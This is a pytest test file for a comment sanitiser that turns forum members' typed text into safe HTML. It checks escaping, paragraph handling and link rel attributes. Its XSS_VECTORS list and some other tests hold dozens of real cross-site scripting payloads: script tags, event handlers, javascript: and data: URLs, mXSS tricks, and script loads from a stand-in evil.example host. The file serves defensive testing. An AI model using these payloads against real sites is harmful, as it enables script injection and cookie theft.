"""clean_comment: plain text typed by a member -> safe HTML (DESIGN invariant 3).

The sanitiser escapes everything the member types, so the XSS vectors below
are checked by *parsing the output* and asserting that only the allow-list
survives, never by string-matching the input.
"""

import re
from html.parser import HTMLParser

import pytest

from comments.sanitize import LINK_REL, clean_comment

ALLOWED_TAGS = {"p", "br", "em", "strong", "ul", "ol", "li", "blockquote", "a"}
DANGEROUS_TAGS = {
    "script",
    "iframe",
    "img",
    "svg",
    "math",
    "object",
    "embed",
    "style",
    "link",
    "meta",
    "base",
    "form",
    "input",
    "body",
    "frame",
    "frameset",
    "applet",
    "video",
    "audio",
    "source",
    "template",
    "xmp",
    "noscript",
    "textarea",
    "title",
}


class _Collector(HTMLParser):
    """Records every tag, attribute and piece of text the browser would see."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str | None]] = []
        self.text: list[str] = []
        self.other: list[str] = []  # comments, doctypes, processing instructions

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, name, value) for name, value in attrs)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.other.append(f"comment:{data}")

    def handle_decl(self, decl):
        self.other.append(f"decl:{decl}")

    def handle_pi(self, data):
        self.other.append(f"pi:{data}")

    def unknown_decl(self, data):
        self.other.append(f"unknown:{data}")


def _parse(markup: str) -> _Collector:
    collector = _Collector()
    collector.feed(markup)
    collector.close()
    return collector


def _visible_text(markup: str) -> str:
    return "".join(_parse(markup).text)


def assert_safe(markup: str) -> _Collector:
    parsed = _parse(markup)
    # (a) only allow-listed elements
    assert set(parsed.tags) <= ALLOWED_TAGS, parsed.tags
    assert not set(parsed.tags) & DANGEROUS_TAGS
    # no comments, doctypes, CDATA or processing instructions
    assert parsed.other == []
    for tag, name, value in parsed.attrs:
        # (b) only href and rel, and only on <a>
        assert tag == "a", (tag, name, value)
        assert name in {"href", "rel"}, (tag, name, value)
        # (d) no event handlers
        assert not name.lower().startswith("on")
        if name == "href":
            # (c) value as the browser sees it (entities already decoded)
            assert value is not None
            assert value.startswith(("http://", "https://")), value
            # Quotes and brackets may appear decoded here: they were written as
            # entities inside a quoted attribute, so they cannot end it.
            assert not re.search(r"[\x00-\x20]", value), value
        if name == "rel":
            assert value == LINK_REL
    # every <a> carries the full rel
    anchors = [t for t in parsed.tags if t == "a"]
    assert sum(1 for t, n, _ in parsed.attrs if n == "rel") == len(anchors)
    # (e) every raw "<" opens or closes an allow-listed element; anything else
    # the member typed is escaped and cannot be reinterpreted as markup
    for match in re.finditer(r"<(/?)([^\s>/]*)", markup):
        assert match.group(2) in ALLOWED_TAGS, markup
    assert "<!" not in markup and "<?" not in markup
    return parsed


def _normalised_input(text: str) -> str:
    """What of the typed text must still be visible: everything except
    control characters and whitespace (which becomes <p>/<br>)."""
    text = re.sub(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", "", text)
    return "".join(text.split())


XSS_VECTORS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script src="https://evil.example/x.js"></script>',
    "<script src=//evil.example/x.js></script>",
    "<script>alert(1)",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" />',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    '<a onmouseover="alert(1)">hover me</a>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    # javascript: URLs
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
    '<a href="jav\tascript:alert(1)">tab</a>',
    '<a href="jav\nascript:alert(1)">newline</a>',
    '<a href="jav&#x09;ascript:alert(1)">entity tab</a>',
    "jav&#x09;ascript:alert(1)",
    '<a href=" javascript:alert(1)">leading space</a>',
    # data: and vbscript: URLs
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    '<a href="vbscript:msgbox(1)">x</a>',
    "vbscript:msgbox(1)",
    # broken and unclosed tags
    "<img src=x onerror=alert(1)//",
    "<<script>alert(1);//<</script>",
    "<a href='https://example.org",
    "<p <script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    # embedding elements
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<base href="https://evil.example/">',
    # mXSS-style payloads
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x',
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # comments with conditional tricks
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # attribute breaking
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "https://example.org/<img src=x onerror=alert(1)>",
    # url-encoded and entity-encoded
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    # CSS
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    # template injection stays literal
    "{{7*7}}",
    "{% debug %}",
    "${7*7}",
    # null byte and control-char splitting
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x on\x00error=alert(1)>",
    "java\x00script:alert(1)",
    '<a href="java\x0bscript:alert(1)">x</a>',
    # unicode look-alikes
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # full-width < >
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    '<a href="https://example.org\u202e">rtl</a>',
]


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_output_is_safe_when_member_types_xss_vector(vector):
    assert_safe(clean_comment(vector))


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_typed_words_are_kept_when_member_types_xss_vector(vector):
    visible = _visible_text(clean_comment(vector))
    assert "".join(visible.split()) == _normalised_input(vector)


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_output_stays_safe_when_sanitised_twice(vector):
    assert_safe(clean_comment(clean_comment(vector)))


@pytest.mark.parametrize(
    ("typed", "escaped"),
    [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
        ('"><script>', '"&gt;&lt;script&gt;'),
        ("<iframe src=x>", "&lt;iframe src=x&gt;"),
    ],
)
def test_markup_is_shown_escaped_when_member_types_tags(typed, escaped):
    assert escaped in clean_comment(typed)


def test_script_tag_is_visible_as_text_when_typed():
    out = clean_comment("<script>alert(1)</script>")
    assert out == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    assert _visible_text(out) == "<script>alert(1)</script>"


def test_template_syntax_stays_literal_when_typed():
    assert clean_comment("{{7*7}}") == "<p>{{7*7}}</p>"
    assert clean_comment("{% debug %}") == "<p>{% debug %}</p>"


def test_null_byte_is_removed_and_rest_escaped_when_splitting_script():
    assert clean_comment("<scr\x00ipt>") == "<p>&lt;script&gt;</p>"


def test_full_width_brackets_survive_as_text_when_typed():
    typed = "\uff1cscript\uff1e"  # full-width < and >
    assert clean_comment(typed) == f"<p>{typed}</p>"


# --- paragraphs and line breaks ---------------------------------------------


def test_paragraphs_split_when_blank_line_between():
    assert clean_comment("a\n\nb") == "<p>a</p><p>b</p>"


def test_line_break_inserted_when_single_newline():
    assert clean_comment("a\nb") == "<p>a<br>b</p>"


def test_paragraphs_and_breaks_work_when_windows_line_endings():
    assert clean_comment("a\r\nb\r\n\r\nc") == "<p>a<br>b</p><p>c</p>"


def test_paragraphs_work_when_old_mac_line_endings():
    assert clean_comment("a\rb\r\rc") == "<p>a<br>b</p><p>c</p>"


def test_whitespace_trimmed_when_leading_and_trailing():
    assert clean_comment("  \n\n  hello  \n\n ") == "<p>hello</p>"


def test_single_paragraph_break_when_many_blank_lines():
    assert clean_comment("a\n\n\n\n\nb") == "<p>a</p><p>b</p>"


def test_single_paragraph_break_when_blank_lines_hold_spaces():
    assert clean_comment("a\n  \n\t\n\nb") == "<p>a</p><p>b</p>"


def test_output_is_empty_when_input_is_only_whitespace():
    assert clean_comment(" \n\n\t \r\n") == ""


def test_output_is_empty_when_input_is_empty():
    assert clean_comment("") == ""


# --- links ------------------------------------------------------------------


def test_link_gets_nofollow_ugc_noopener_when_url_is_https():
    assert clean_comment("https://example.org/x?a=1&b=2") == (
        '<p><a href="https://example.org/x?a=1&amp;b=2" '
        'rel="nofollow ugc noopener">https://example.org/x?a=1&amp;b=2</a></p>'
    )


def test_link_gets_nofollow_ugc_noopener_when_url_is_http():
    assert clean_comment("http://example.org/") == (
        '<p><a href="http://example.org/" '
        'rel="nofollow ugc noopener">http://example.org/</a></p>'
    )


def test_link_rel_constant_is_nofollow_ugc_noopener():
    assert LINK_REL == "nofollow ugc noopener"


@pytest.mark.parametrize(
    "typed",
    [
        "ftp://example.org/file.txt",
        "mailto:someone@example.org",
        "javascript:alert(1)",
        "data:text/html,hi",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
    ],
)
def test_url_is_not_linked_when_scheme_is_not_http(typed):
    out = clean_comment(typed)
    assert "<a" not in out
    assert _visible_text(out) == typed


def test_link_excludes_period_when_url_ends_sentence():
    assert clean_comment("See https://example.org/x.") == (
        '<p>See <a href="https://example.org/x" '
        'rel="nofollow ugc noopener">https://example.org/x</a>.</p>'
    )


def test_link_excludes_parenthesis_when_url_is_in_brackets():
    assert clean_comment("(see https://example.org/x)") == (
        '<p>(see <a href="https://example.org/x" '
        'rel="nofollow ugc noopener">https://example.org/x</a>)</p>'
    )


def test_link_is_made_when_url_is_mid_sentence():
    out = clean_comment("Read https://example.org/a and https://example.org/b too")
    parsed = assert_safe(out)
    hrefs = [v for _, n, v in parsed.attrs if n == "href"]
    assert hrefs == ["https://example.org/a", "https://example.org/b"]
    assert _visible_text(out) == (
        "Read https://example.org/a and https://example.org/b too"
    )


def test_every_link_has_rel_when_comment_has_several_urls():
    out = clean_comment(
        "https://a.example.org\nhttp://b.example.org/x\n\nwww.example.org and"
        " https://c.example.org/?q=1&r=2"
    )
    parsed = assert_safe(out)
    assert parsed.tags.count("a") == 4
    assert out.count("<a ") == out.count(f'rel="{LINK_REL}"') == 4


def test_no_link_lacks_rel_when_output_is_sanitised_again():
    once = clean_comment("https://example.org/x?a=1&b=2")
    twice = clean_comment(once)
    for out in (once, twice):
        for tag in re.findall(r"<a\b[^>]*>", out):
            assert f'rel="{LINK_REL}"' in tag
    # the second pass treats the first pass's markup as typed text
    assert "&lt;a href=" in twice


def test_link_href_is_escaped_when_url_holds_quote():
    out = clean_comment('https://example.org/"onmouseover=alert(1)')
    assert 'href="https://example.org/&quot;onmouseover=alert(1)"' in out
    parsed = assert_safe(out)
    assert [n for _, n, _ in parsed.attrs] == ["href", "rel"]


def test_link_stops_at_escaped_bracket_when_url_is_followed_by_tag():
    out = clean_comment("https://example.org/<img src=x onerror=alert(1)>")
    parsed = assert_safe(out)
    assert [v for _, n, v in parsed.attrs if n == "href"] == [
        "https://example.org/<img"
    ]
    assert "&lt;img" in out and "onerror=alert(1)&gt;" in out


# --- text survives ----------------------------------------------------------


def test_escaped_entity_stays_visible_when_typed_literally():
    assert clean_comment("&lt;") == "<p>&amp;lt;</p>"
    assert _visible_text(clean_comment("&lt;b&gt;")) == "&lt;b&gt;"


def test_ampersand_escaped_when_typed_alone():
    assert clean_comment("salt & pepper") == "<p>salt &amp; pepper</p>"


def test_control_characters_removed_when_bell_and_escape_typed():
    assert clean_comment("a\x07b\x1bc") == "<p>abc</p>"


def test_c1_and_delete_removed_when_typed():
    assert clean_comment("a\x7fb\x85c\x9fd") == "<p>abcd</p>"


def test_tab_kept_when_inside_line():
    assert clean_comment("a\tb") == "<p>a\tb</p>"


@pytest.mark.parametrize(
    "typed",
    [
        "Feeling better 😀👍🏽",
        "Καλημέρα, πώς είστε;",
        "مرحبا بكم في المنتدى",
        "日本語のテキスト",
        "naïve café — “quotes”",
    ],
)
def test_text_unchanged_when_emoji_or_non_latin(typed):
    assert clean_comment(typed) == f"<p>{typed}</p>"
